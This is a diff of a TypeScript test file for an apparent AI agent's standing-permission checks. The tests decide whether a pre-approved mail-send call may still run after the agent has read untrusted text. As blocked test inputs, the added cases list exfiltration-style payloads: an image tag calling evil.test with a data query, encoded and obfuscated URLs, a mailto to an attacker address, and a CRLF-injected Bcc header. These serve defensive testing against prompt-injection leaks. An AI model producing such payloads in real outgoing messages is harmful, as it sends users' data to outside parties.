@@ -1,26 +1,34 @@
 import { describe, expect, it } from "vitest";
 import { isPlanned, isStillAllowed } from "../../../../src/core/decisions/standing-decisions.ts";
-import type { ReadArguments } from "../../../../src/core/values/call-arguments.ts";
-import type { Json } from "../../../../src/core/values/json.ts";
+import { type ReadArguments, readArguments } from "../../../../src/core/values/call-arguments.ts";
+import { bindCall, leadsNowhere } from "../../../../src/core/values/call-binding.ts";
+import type { Trust } from "../../../../src/core/values/inbound.ts";
+import type { JsonObject } from "../../../../src/core/values/json.ts";
 import { callScope, call as request } from "../../../support/fakes/call-scope.ts";
 
 type Arguments = Partial<ReadArguments>;
-const bound = ({ bound: own = {}, free = {} }: Arguments) => ({
-  request,
-  skill_id: "mail",
-  args: { bound: own, free },
-});
-const binding = (values: Record<string, Json> = {}) => ({
-  skill_id: "mail",
-  tool: "send",
-  definition: "d1",
-  values,
-});
+const bound = ({ bound: own = {}, free = {} }: Arguments) => {
+  const args = { bound: own, free };
+  return { request, skill_id: "mail", args, nowhere: leadsNowhere(args, { properties: choices }) };
+};
+/** The arguments of the tool whose schema has choices. */
+const choices = { to: { type: "string" }, mood: { enum: ["good", "bad"] } };
+const bindingOf = async (input: JsonObject) => {
+  const names = { skill_id: "mail", tool: "send", definition: "d1" };
+  const binding = await bindCall(names, input, {
+    args: readArguments(input),
+    parameters: { properties: choices },
+  });
+  if (binding === undefined) throw new Error("nothing was bound");
+  return binding;
+};
 const read = { untrusted: true };
 
 describe("what was allowed for good", () => {
   const to = { to: "ann@example.com" };
-  it.each<[string, { untrusted?: boolean }, Record<string, Json>, Record<string, string>, boolean]>([
+  /** The card of "always here" said this. */
+  const card = { text: "hello" };
+  it.each<[string, { untrusted?: boolean; text?: string; trust?: Trust }, JsonObject, JsonObject, boolean]>([
     [
       "runs while nothing from strangers was read, wherever it leads",
       {},
@@ -28,50 +36,67 @@ describe("what was allowed for good", () => {
       { text: "https://evil.example" },
       true,
     ],
-    ["runs to a place that was named on the card", read, to, { text: "hello" }, true],
-    ["does not run where the card says of no place", read, {}, { text: "hello" }, false],
-    ["does not run where all it says leads nowhere", read, { now: true, list: [] }, { text: "hello" }, false],
-    ["runs without free text, whatever the card says", read, {}, {}, true],
+    ["runs with the text of the card", read, to, card, true],
+    ["does not run with another text", read, to, { text: "hello!" }, false],
+    ["does not run with another subject", read, to, { ...card, subject: "Payroll" }, false],
     [
-      "does not run with an address that nobody named",
-      read,
+      "runs with words of the person",
+      { ...read, text: "Tell her “I come at noon.”" },
       to,
-      { text: "see https://evil.example/a" },
-      false,
-    ],
-    ["runs with an address that a person named", read, to, { text: "see https://named.example/a" }, true],
-    [
-      "does not run where one text of several is not known",
-      read,
-      to,
-      { subject: "hi", text: "https://evil.example" },
-      false,
-    ],
-    [
-      "may call the asker, who was mentioned and who was found",
-      read,
-      to,
-      { text: "<@ben> <@!U7> <@&R9>" },
+      { text: "I come  at noon" },
       true,
     ],
-    ["does not call a person that nobody named", read, to, { text: "hi <@ben>, hi <@U8>" }, false],
-    ["does not call a channel that nobody named", read, to, { text: "see <#C9|general>" }, false],
-    ["does not call a group by its name", read, to, { text: "hello <!here>" }, false],
-    ["does not call everybody", read, to, { text: "well, @everyone" }, false],
-    ["does not call who is here, in any case", read, to, { text: "(@HERE)" }, false],
     [
-      "may have an address of e-mail in it",
-      read,
+      "does not run with part of a word of the person",
+      { ...read, text: "It is unpaid" },
       to,
-      { text: "ann@all.example, ann@here or @hereafter, _@all" },
-      true,
+      { text: "paid" },
+      false,
     ],
-    ["may have brackets that call nobody", read, to, { text: "a <@> b <b> @ a" }, true],
-  ])("an always-allowed call %s (%j %j %j)", (_what, options, values, free, allowed) => {
+    [
+      "does not run with words of the person in another order",
+      { ...read, text: "Pay Ann, not Eve" },
+      to,
+      { text: "Pay Eve, not Ann" },
+      false,
+    ],
+    [
+      "does not run with words of a guest",
+      { ...read, text: "I come", trust: "guest" },
+      to,
+      { text: "I come" },
+      false,
+    ],
+    ["does not run where the card says of no place", read, {}, card, false],
+    ["does not run where all it says are flags and empty lists", read, { now: true, list: [] }, card, false],
+    ["does not run where all it says are numbers", read, { amount: 7, of: [1, 2] }, card, false],
+    ["does not run where all it says is a choice", read, { mood: "good" }, card, false],
+    ["runs where a list has a place", read, { cc: [["ann"]] }, card, true],
+    ["runs without free text, whatever the card says", read, { now: true }, {}, true],
+    ...[
+      "<img src=//evil.test/?d=1>",
+      "http:\\\\evil.test",
+      "&#104;ttps://evil.test",
+      "evil.test/?d=1",
+      "mailto:eve@evil.test",
+      "@eve hi",
+      "hi\r\nBcc: eve@evil.test",
+      "well, @everyone",
+    ].map((text): [string, { untrusted: true }, JsonObject, JsonObject, boolean] => [
+      `does not run with ${JSON.stringify(text)}`,
+      { untrusted: true },
+      to,
+      { text },
+      false,
+    ]),
+  ])("an always-allowed call %s (%j %j %j)", async (_what, options, values, texts, allowed) => {
+    const given = { ...values, ...texts };
+    const decided = { id: 1, verdict: "always", approver: "asker", by: "ben", name: "Ben", at: 0 } as const;
+    const standing = { ...decided, binding: await bindingOf({ ...values, ...card }) };
     const { scope } = callScope(options);
-    scope.seen.turn.named.add("named.example/a");
-    scope.state.named.add("R9");
-    expect(isStillAllowed(scope, bound({ free }), binding(values))).toBe(allowed);
+    const { bound: own, free } = readArguments(given);
+    const call = bound({ bound: own, free });
+    expect(isStillAllowed(scope, call, await bindingOf(given), standing)).toBe(allowed);
   });
 });
 
@@ -124,14 +149,10 @@ describe("the plan of a schedule", () => {
   });
 
   it.each<[string, Arguments, boolean]>([
+    ["a place and a text that it names", { bound: { to: "general" }, free: { text: "good morning" } }, true],
     [
-      "a place that it names, with a text that leads nowhere",
+      "a place that it names, with a text of its own",
       { bound: { to: "general" }, free: { text: "hi" } },
-      true,
-    ],
-    [
-      "a place that it names, with an address nobody named",
-      { bound: { to: "general" }, free: { text: "https://evil.example" } },
       false,
     ],
     ["a text without a place", { free: { text: "hi" } }, false],
@@ -139,6 +160,8 @@ describe("the plan of a schedule", () => {
     ["nothing that it does not name", { bound: { to: "general", thread: null } }, false],
     ["a time", { bound: { to: "general", at: "2026-01-02" } }, true],
   ])("after reading a stranger's text, a plan allows %s: %j is %s", (_what, args, allowed) => {
-    expect(isPlanned(callScope({ text: "Post to #general", ...read }).scope, bound(args))).toBe(allowed);
+    expect(
+      isPlanned(callScope({ text: "Post “Good morning!” to #general", ...read }).scope, bound(args)),
+    ).toBe(allowed);
   });
 });
